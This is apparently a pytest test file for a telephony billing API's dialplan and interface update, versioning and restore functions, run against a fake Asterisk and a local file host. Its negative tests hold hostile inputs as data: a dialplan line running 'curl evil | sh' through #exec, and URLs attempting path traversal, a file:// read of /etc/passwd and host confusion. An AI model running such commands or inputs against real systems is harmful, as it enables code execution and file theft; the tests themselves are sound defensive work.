"""updateDialplan, restoreDialplan, updateInterface (both backends, fake Asterisk, a local
HTTP server as the operator's file host): versions per server with `OK <version>`, the
AMI Reload of pbx_config, the spec's `~` URL form, only URLs under the configured prefixes
(refused before anything is fetched), bad files, failed reloads, servers that are down."""

from __future__ import annotations

import argparse
import re
from collections.abc import AsyncIterator
from dataclasses import dataclass, field, replace

import pytest
from aiohttp import web
from sqlalchemy import select

from billing_core.api.dispatch import Dispatcher, Outcome
from billing_core.asterisk.servers import add_server
from billing_core.asterisk.tables import asterisk_files
from billing_core.container import Services
from billing_core.errors import ErrorCode
from callgate.asterisk_cli import dialplan_export
from tests.factories import make_user
from tests.fake_ami import FakeAmi
from tests.rating_world import credentials, server_key
from tests.test_asterisk_ami import PATIENT, until
from tests.test_asterisk_live_calls import pbx

PLAN_1 = "[from-phones]\nexten => _X.,1,Goto(callgate-outbound,${EXTEN},1)\n"
PLAN_2 = "[from-phones]\nexten => _X.,1,NoOp(v2)\n same => n,Goto(callgate-outbound,${EXTEN},1)\n"
VERSION = re.compile(r"OK (\d{4})R\d{8}_\d{6}")


@dataclass
class FileHost:
    port: int
    files: dict[str, bytes]
    seen: list[str] = field(default_factory=list)

    def url(self, path: str) -> str:
        """The spec's form: the URL with every `/` written `~`."""
        return f"http://127.0.0.1:{self.port}{path}".replace("/", "~")


@pytest.fixture
async def host() -> AsyncIterator[FileHost]:
    found = FileHost(0, {})

    async def serve(request: web.Request) -> web.StreamResponse:
        found.seen.append(request.path_qs)
        if request.path == "/dialplans/moved.conf":
            raise web.HTTPFound("/dialplans/pbx1.conf")
        body = found.files.get(request.path)
        return web.Response(body=body) if body is not None else web.Response(status=404)

    app = web.Application()
    app.router.add_get("/{tail:.*}", serve)
    runner = web.AppRunner(app)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    found.port = runner.addresses[0][1]
    try:
        yield found
    finally:
        await runner.cleanup()


async def _ready(services: Services, fake: FakeAmi, host: FileHost) -> str:
    services.settings = replace(services.settings, dialplan_url_prefixes=(f"http://127.0.0.1:{host.port}/dialplans/",))
    await make_user(services, "ops", accesslevel=33)
    await add_server(services.db, services.box, pbx(fake))
    await services.ami.refresh()
    assert await services.ami.connection("pbx1").wait_up(PATIENT)
    host.files["/dialplans/pbx1.conf"] = PLAN_1.encode()
    return await server_key(services)


async def _call(dispatcher: Dispatcher, key: str, method: str, **args: str) -> Outcome:
    return await dispatcher.call(method, {"login": "ops", **args}, credentials(key, None))


def _error(outcome: Outcome) -> ErrorCode | None:
    return outcome.error.code if outcome.error is not None else None


def _seq(outcome: Outcome) -> int:
    assert outcome.error is None, outcome.error
    match = VERSION.fullmatch(str(outcome.value))
    assert match, outcome.value
    return int(match.group(1))


async def _versions(services: Services, kind: str = "dialplan") -> list[tuple[int, int, str]]:
    async with services.db.begin() as conn:
        query = select(asterisk_files).where(asterisk_files.c.kind == kind).order_by(asterisk_files.c.seq)
        return [(r.seq, r.active, r.content) for r in await conn.execute(query)]


async def _export(services: Services, capsys: pytest.CaptureFixture[str], kind: str = "dialplan") -> tuple[int, str]:
    code = await dialplan_export(services, argparse.Namespace(server="pbx1", kind=kind))
    return code, capsys.readouterr().out


async def test_versions_reloads_and_restores(
    services: Services, dispatcher: Dispatcher, fake: FakeAmi, host: FileHost, capsys: pytest.CaptureFixture[str]
) -> None:
    key = await _ready(services, fake, host)
    assert await _export(services, capsys) == (1, "")  # nothing active yet: nothing for #exec to include
    first = await _call(dispatcher, key, "updateDialplan", asterisk="127.0.0.1", url=host.url("/dialplans/pbx1.conf"))
    assert _seq(first) == 1 and fake.reloads == ["pbx_config.so"]
    assert await _export(services, capsys) == (0, PLAN_1)
    host.files["/dialplans/localhost-dialplan"] = PLAN_2.encode()
    second = await _call(dispatcher, key, "updateDialplan", asterisk="pbx1", url="localhost-dialplan")  # spec's form
    assert _seq(second) == 2 and host.seen[-1] == "/dialplans/localhost-dialplan"
    assert await _versions(services) == [(1, 0, PLAN_1), (2, 1, PLAN_2)]
    assert await _export(services, capsys) == (0, PLAN_2)
    assert fake.reloads == ["pbx_config.so"] * 2
    assert not any(a.get("Action", "").lower() == "command" for a in fake.actions)  # never "dialplan reload"

    restored = await _call(dispatcher, key, "restoreDialplan")  # the spec's example: no asterisk
    assert restored.value == first.value and fake.reloads == ["pbx_config.so"] * 3
    assert await _versions(services) == [(1, 1, PLAN_1), (2, 0, PLAN_2)]
    assert await _export(services, capsys) == (0, PLAN_1)
    nothing_before = await _call(dispatcher, key, "restoreDialplan", asterisk="127.0.0.1")
    assert _error(nothing_before) is ErrorCode.E_NOT_EXIST and len(fake.reloads) == 3
    third = await _call(dispatcher, key, "updateDialplan", asterisk="pbx1", url="pbx1.conf")
    assert _seq(third) == 3 and [a for _, a, _ in await _versions(services)] == [0, 0, 1]

    # the interface file: its own numbering, no reload
    host.files["/dialplans/interface.lua"] = b"-- interface 0.12.4\nreturn {}\n"
    interface = await _call(dispatcher, key, "updateInterface", asterisk="pbx1", url="interface.lua")
    assert _seq(interface) == 1 and len(fake.reloads) == 4
    assert await _export(services, capsys, "interface") == (0, "-- interface 0.12.4\nreturn {}\n")


async def test_only_urls_under_the_configured_prefixes(
    services: Services, dispatcher: Dispatcher, fake: FakeAmi, host: FileHost
) -> None:
    key = await _ready(services, fake, host)
    port = host.port
    host.files["/secret.conf"] = host.files["/other/pbx1.conf"] = host.files["/dialplans-evil/x.conf"] = b"[x]\n"
    for url in (
        "http:~~example.com~dialplans~pbx1.conf", f"http:~~127.0.0.1:{port}~other~pbx1.conf",
        f"http:~~127.0.0.1:{port}~dialplans-evil~x.conf", f"http:~~127.0.0.1:{port}~dialplans~..~secret.conf",
        "..~secret.conf", f"http:~~127.0.0.1:{port}~dialplans~%2e%2e~secret.conf",
        f"http:~~user@127.0.0.1:{port}~dialplans~pbx1.conf", f"http:~~127.0.0.1:{port}@example.com~dialplans~x",
        f"https:~~127.0.0.1:{port}~dialplans~pbx1.conf", "file:~~~etc~passwd",
        f"http:~~127.0.0.1:{port}~dialplans~pbx1.conf?x=1", f"http:~~127.0.0.1:{port + 1}~dialplans~pbx1.conf",
    ):  # fmt: skip
        outcome = await _call(dispatcher, key, "updateDialplan", asterisk="pbx1", url=url)
        assert _error(outcome) is ErrorCode.E_INSUFFICIENT_ACCESS, url
    assert host.seen == [] and fake.reloads == [] and await _versions(services) == []
    services.settings = replace(services.settings, dialplan_url_prefixes=())
    none_allowed = await _call(dispatcher, key, "updateDialplan", asterisk="pbx1", url="pbx1.conf")
    assert _error(none_allowed) is ErrorCode.E_INSUFFICIENT_ACCESS and host.seen == []


async def test_bad_files_are_not_kept(
    services: Services, dispatcher: Dispatcher, fake: FakeAmi, host: FileHost
) -> None:
    key = await _ready(services, fake, host)
    host.files["/dialplans/exec.conf"] = b"[x]\n  #exec /bin/sh -c 'curl evil | sh'\n"
    host.files["/dialplans/big.conf"] = b";" * (1 << 20) + b"\n"
    host.files["/dialplans/binary.conf"] = b"[x]\n\xff\xfe\n"
    host.files["/dialplans/empty.conf"] = b"  \n"
    for name in ("missing.conf", "moved.conf", "exec.conf", "big.conf", "binary.conf", "empty.conf"):
        outcome = await _call(dispatcher, key, "updateDialplan", asterisk="pbx1", url=name)
        assert _error(outcome) is ErrorCode.E_DATA_ABORT, name
    assert "/dialplans/pbx1.conf" not in host.seen  # the redirect was not followed
    assert fake.reloads == [] and await _versions(services) == []


async def test_a_failed_reload_and_a_server_that_is_down(
    services: Services, dispatcher: Dispatcher, fake: FakeAmi, host: FileHost, capsys: pytest.CaptureFixture[str]
) -> None:
    key = await _ready(services, fake, host)
    assert _seq(await _call(dispatcher, key, "updateDialplan", asterisk="pbx1", url="pbx1.conf")) == 1
    host.files["/dialplans/pbx1.conf"] = PLAN_2.encode()
    fake.reload_error = "No such module."
    failed = await _call(dispatcher, key, "updateDialplan", asterisk="pbx1", url="pbx1.conf")
    assert _error(failed) is ErrorCode.E_ASTERISK_QUERY_ERROR
    assert await _versions(services) == [(1, 1, PLAN_1), (2, 0, PLAN_2)]  # kept on record, the old one active
    assert await _export(services, capsys) == (0, PLAN_1)
    fake.reload_error = ""
    seen = len(host.seen)
    await fake.close()
    await until(lambda: services.ami.connection("pbx1").state.value != "up", "pbx1 down")
    down = await _call(dispatcher, key, "updateDialplan", asterisk="pbx1", url="pbx1.conf")
    assert _error(down) is ErrorCode.E_ASTERISK_QUERY_ERROR and len(host.seen) == seen  # nothing fetched
    assert _error(await _call(dispatcher, key, "restoreDialplan", asterisk="pbx1")) is ErrorCode.E_ASTERISK_QUERY_ERROR
    assert [a for _, a, _ in await _versions(services)] == [1, 0]
    # the interface file needs no reload, so no AMI
    assert _seq(await _call(dispatcher, key, "updateInterface", asterisk="pbx1", url="pbx1.conf")) == 1


async def test_who_may_and_which_server(
    services: Services, dispatcher: Dispatcher, fake: FakeAmi, host: FileHost
) -> None:
    key = await _ready(services, fake, host)
    await make_user(services, "reseller", accesslevel=22)
    below = await dispatcher.call("updateDialplan", {"login": "reseller", "asterisk": "pbx1", "url": "pbx1.conf"},
                                  credentials(key, None))  # fmt: skip
    assert _error(below) is ErrorCode.E_INSUFFICIENT_ACCESS
    nowhere = await _call(dispatcher, key, "updateDialplan", asterisk="10.9.9.9", url="pbx1.conf")
    assert _error(nowhere) is ErrorCode.E_SIP_SERVER_NOT_EXIST
    assert _error(await _call(dispatcher, key, "restoreDialplan")) is ErrorCode.E_NOT_EXIST  # no version anywhere
    assert host.seen == []
